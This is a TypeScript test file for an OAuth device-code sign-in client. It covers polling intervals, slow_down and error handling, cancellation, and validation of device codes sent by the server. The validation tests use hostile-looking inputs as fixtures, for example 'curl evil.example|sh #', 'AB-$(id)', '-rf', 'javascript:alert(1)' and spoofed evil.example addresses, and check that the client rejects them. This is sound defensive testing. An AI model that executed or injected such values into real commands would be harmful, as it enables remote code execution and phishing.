import { decodeJwt } from 'jose';
import { afterAll, afterEach, beforeAll, describe, expect, it } from 'vitest';
import type { KeyturnError } from '../../src/base/errors.ts';
import type { GrantResult } from '../../src/token/grant.ts';
import type { DeviceCode } from '../../src/token/signIn.ts';
import { MINUTE, settled, TestClock } from '../token/support.ts';
import { Browser, type Seen } from './browser.ts';
import { startSandboxServers, type SandboxServers } from './sandboxServers.ts';
import { deviceWith, obtainAs, signInProfile, signInWith } from './signIns.ts';
import { failureOf, json, listen, type TestServer } from './support.ts';

let sandbox: SandboxServers;
beforeAll(async () => void (sandbox = await startSandboxServers()));
afterAll(() => sandbox.close());
let server: TestServer | null = null;
afterEach(async () => {
  await server?.close();
  server = null;
});

const device = (issuer: string, changes: Parameters<typeof signInProfile>[1] = {}) =>
  signInProfile(issuer, { name: 'device', grant: 'device_code', clientId: 'device', ...changes });

/** Lets time pass whenever somebody waits for it, until the sign-in is over. */
async function passing(clock: TestClock, over: Promise<unknown>): Promise<void> {
  const state = { done: false };
  const end = () => void (state.done = true);
  over.then(end, end);
  const giveUpAtMs = Date.now() + 15_000;
  while (!state.done && Date.now() < giveUpAtMs) {
    // Meanwhile a real request is under way, for which no clock is turned.
    if (clock.timers.size === 0) await new Promise((resolve) => setTimeout(resolve, 1));
    else await clock.advance(1000);
  }
}

async function enterCode(code: DeviceCode, answer: 'confirm' | 'abort'): Promise<Seen> {
  const browser = new Browser();
  let page = await browser.open(code.verificationUri);
  expect(page.html).toContain('Enter the code');
  page = await browser.submit(page, { user_code: 'WRONG' });
  expect(page.html).toContain('There is no such code');
  page = await browser.submit(page, { user_code: code.userCode.toLowerCase() });
  expect(page.html).toContain(code.userCode);
  page = await browser.submit(page, { [answer]: 'yes' });
  if (answer === 'abort') return page;
  page = await browser.submit(page, { person: 'editor' });
  return browser.submit(page, { allow: 'yes' });
}

describe('a sign-in with a code at a real provider', () => {
  it('brings the tokens of the person who entered it', async () => {
    const clock = new TestClock();
    clock.nowMs = Date.now();
    const codes: DeviceCode[] = [];
    let last: Seen | null = null;
    let entered = false;
    const signIn = deviceWith(async (code) => {
      codes.push(code);
      last = await enterCode(code, 'confirm');
      entered = true;
    });
    const result = obtainAs(device(sandbox.issuer), signIn, {}, { clock });
    await expect.poll(() => entered, { timeout: 10_000 }).toBe(true);
    await passing(clock, result);
    const { accessToken, idToken, refreshToken } = await result;
    expect(decodeJwt(accessToken)).toMatchObject({
      sub: 'editor',
      client_id: 'device',
      scope: 'reports:read',
    });
    expect(decodeJwt(idToken ?? '')).toMatchObject({ sub: 'editor', aud: 'device' });
    expect(last).toMatchObject({ html: expect.stringContaining('Signed in') as string });
    expect(codes[0]).toMatchObject({
      userCode: expect.stringMatching(/^[B-Z]{4}-[B-Z]{4}$/) as string,
      verificationUri: `${sandbox.issuer}/device`,
      verificationUriComplete: expect.stringContaining('user_code=') as string,
    });
    const renewed = await obtainAs(device(sandbox.issuer), null, { refreshToken });
    expect(decodeJwt(renewed.accessToken).sub).toBe('editor');
  });

  it('is refused by the person', async () => {
    const clock = new TestClock();
    let refused = false;
    const signIn = deviceWith(async (code) => {
      await enterCode(code, 'abort');
      refused = true;
    });
    const failure = failureOf(obtainAs(device(sandbox.issuer), signIn, {}, { clock }));
    await expect.poll(() => refused).toBe(true);
    await passing(clock, failure);
    expect((await failure).code).toBe('access_denied');
  });

  it('needs a client that may do it, and somebody to see the code', async () => {
    const wrong = await failureOf(
      obtainAs(
        device(sandbox.issuer, { clientId: 'person' }),
        deviceWith(() => 0),
      ),
    );
    expect(wrong).toMatchObject({ code: 'oauth_error', data: { error: 'invalid_request' } });
    expect((await failureOf(obtainAs(device(sandbox.issuer), null))).code).toBe('sign_in_needed');
  });
});

/** What the token endpoint answers, one for each time it is asked; then it repeats the last. */
type Answer = Parameters<typeof listen>[0];
const oauthError =
  (error: string): Answer =>
  (_request, response) =>
    json(response, 400, { error });
const success: Answer = (_request, response) =>
  json(response, 200, { access_token: 'device-token', token_type: 'bearer', expires_in: 600 });

interface Polled {
  /** Seconds after the code was shown at which the token endpoint was asked. */
  readonly askedAt: number[];
  readonly outcome: GrantResult | KeyturnError;
}

/** A sign-in at a server that answers as the test says. */
async function polled(
  answers: readonly Answer[],
  deviceAnswer: Record<string, unknown> = {},
): Promise<Polled> {
  const clock = new TestClock();
  const startMs = clock.now();
  const askedAt: number[] = [];
  server = await listen((request, response, body) => {
    if (request.url === '/device') {
      json(response, 200, {
        device_code: 'the-device-code',
        user_code: 'WDJB-MJHT',
        verification_uri: 'https://id.example.com/device',
        expires_in: 600,
        ...deviceAnswer,
      });
      return;
    }
    askedAt.push((clock.now() - startMs) / 1000);
    answers[Math.min(askedAt.length, answers.length) - 1]?.(request, response, body);
  });
  const outcome = obtainAs(
    deviceAt(server.origin),
    deviceWith(() => undefined),
    {},
    { clock },
  ).catch((error: unknown) => error as KeyturnError);
  await passing(clock, outcome);
  return { askedAt, outcome: await outcome };
}

const deviceAt = (origin: string) =>
  device(origin, {
    issuer: null,
    scope: 'reports:read',
    tokenEndpoint: `${origin}/token`,
    options: { deviceAuthorizationEndpoint: `${origin}/device` },
  });

const pending = oauthError('authorization_pending');

describe('polling', () => {
  it('asks every five seconds, or as often as the server says', async () => {
    const usual = await polled([pending, pending, success]);
    expect(usual.outcome).toMatchObject({ accessToken: 'device-token' });
    expect(usual.askedAt).toEqual([5, 10, 15]);
    await server?.close();
    expect((await polled([pending, success], { interval: 2 })).askedAt).toEqual([2, 4]);
  });

  it('is not driven to ask without a pause', async () => {
    expect((await polled([pending, success], { interval: 0.001 })).askedAt).toEqual([1, 2]);
  });

  it('slows down by five seconds each time it is told to, for good', async () => {
    const slow = oauthError('slow_down');
    const { askedAt } = await polled([slow, pending, slow, success]);
    expect(askedAt).toEqual([5, 15, 25, 40]);
  });

  it('survives a network and a server that fail for a while, and asks less often', async () => {
    const reset: Answer = (request) => request.socket.destroy();
    const broken: Answer = (_request, response) => response.writeHead(503).end();
    const { askedAt, outcome } = await polled([reset, broken, pending, success]);
    expect(outcome).toMatchObject({ accessToken: 'device-token' });
    expect(askedAt).toEqual([5, 15, 35, 55]);
  });

  it.each<[string, Answer, string]>([
    ['expired_token', oauthError('expired_token'), 'device_code_expired'],
    ['access_denied', oauthError('access_denied'), 'access_denied'],
    ['invalid_grant', oauthError('invalid_grant'), 'authorization_failed'],
    ['invalid_client', oauthError('invalid_client'), 'invalid_client'],
    ['404', (_request, response) => response.writeHead(404).end(), 'token_endpoint_failed'],
    [
      'a web page',
      (_request, response) => response.writeHead(200, { 'content-type': 'text/html' }).end('<p>Hello'),
      'token_response_invalid',
    ],
  ])('ends with %s', async (_name, answer, code) => {
    const { askedAt, outcome } = await polled([pending, answer]);
    expect(outcome).toMatchObject({ code });
    expect(askedAt).toEqual([5, 10]);
  });

  it('ends when the code does, even if the server forgets to say so', async () => {
    const { askedAt, outcome } = await polled([pending], { expires_in: 22 });
    expect(outcome).toMatchObject({ code: 'device_code_expired' });
    expect(askedAt).toEqual([5, 10, 15, 20]);
  });
});

describe('a code that cannot be shown', () => {
  it.each<[string, Record<string, unknown>]>([
    ['a page with plain http', { verification_uri: 'http://id.example.com/device' }],
    ['a page that is a script', { verification_uri: 'javascript:alert(1)' }],
    ['a code with a line break', { user_code: 'ABCD\nEnter it at evil.example' }],
    ['a code without end', { user_code: 'A'.repeat(1000) }],
    ['a code of 25 letters', { user_code: 'A'.repeat(25) }],
    ['a code to be run', { user_code: 'curl evil.example|sh #' }],
    ['a code with a dollar', { user_code: 'AB-$(id)' }],
    ['a code with a bidirectional sign', { user_code: 'ABCD\u202eEFGH' }],
    ['a code with letters of another script', { user_code: 'WDJB-МЈНТ' }],
    ['a code that begins with a dash', { user_code: '-rf' }],
    ['a page with user information', { verification_uri: 'https://id.example.com@evil.example/device' }],
    ['no code', { user_code: undefined }],
  ])('%s', async (_name, answer) => {
    const { outcome, askedAt } = await polled([success], answer);
    expect(outcome).toMatchObject({ code: 'authorization_failed' });
    expect(askedAt).toEqual([]);
  });

  it.each(['WDJB-MJHT', '123 456 789', 'abcd1234', 'A', 'ABCD-EFGH-IJKL-MNOP-QRST'])(
    'is not %s',
    async (userCode) => {
      const { outcome } = await polled([success], { user_code: userCode });
      expect(outcome).toMatchObject({ accessToken: expect.any(String) as string });
    },
  );

  it.each([
    'file:///etc/passwd',
    'https://evil.example/device?user_code=WDJB-MJHT',
    'https://id.example.com.evil.example/device',
    'https://id.example.com:8443/device',
    'https://user@id.example.com/device',
  ])('is shown without the address %s, which is not the page’s', async (complete) => {
    const shown: DeviceCode[] = [];
    server = await listen((request, response) => {
      if (request.url === '/device') {
        json(response, 200, {
          device_code: 'd',
          user_code: 'WDJB-MJHT',
          verification_uri: 'https://id.example.com/device',
          verification_uri_complete: complete,
          expires_in: 30,
        });
      } else json(response, 400, { error: 'authorization_pending' });
    });
    const clock = new TestClock();
    const signIn = deviceWith((code) => shown.push(code));
    const failure = failureOf(obtainAs(deviceAt(server.origin), signIn, {}, { clock }));
    await passing(clock, failure);
    expect((await failure).code).toBe('device_code_expired');
    expect(shown).toMatchObject([{ userCode: 'WDJB-MJHT', verificationUriComplete: null }]);
  });
});

describe('giving up', () => {
  const waiting: Answer = (request, response) => {
    if (request.url === '/device') {
      json(response, 200, {
        device_code: 'd',
        user_code: 'WDJB-MJHT',
        verification_uri: 'https://id.example.com/device',
        expires_in: 600,
      });
    } else json(response, 400, { error: 'authorization_pending' });
  };

  it('by the one who was shown the code ends the polling', async () => {
    server = await listen(waiting);
    const clock = new TestClock();
    const signIn = signInWith(() => undefined, {
      showDeviceCode: () => Promise.reject(Object.assign(new Error('Cancelled.'), { code: 'cancelled' })),
    });
    await expect(obtainAs(deviceAt(server.origin), signIn, {}, { clock })).rejects.toThrow('Cancelled.');
    await clock.advance(5 * MINUTE);
    expect(server.requests).toEqual(['POST /device']);
    expect(clock.timers.size).toBe(0);
  });

  it('by the one who waits ends what is shown', async () => {
    server = await listen(waiting);
    const clock = new TestClock();
    const controller = new AbortController();
    let hidden = false;
    const signIn = signInWith(() => undefined, {
      showDeviceCode: (_code, signal) =>
        new Promise((resolve) => {
          signal.addEventListener('abort', () => {
            hidden = true;
            resolve();
          });
          setImmediate(() => controller.abort());
        }),
    });
    const { signal } = controller;
    const error = await failureOf(obtainAs(deviceAt(server.origin), signIn, { signal }, { clock }));
    expect(error.code).toBe('cancelled');
    await settled();
    expect(hidden).toBe(true);
    expect(clock.timers.size).toBe(0);
  });
});
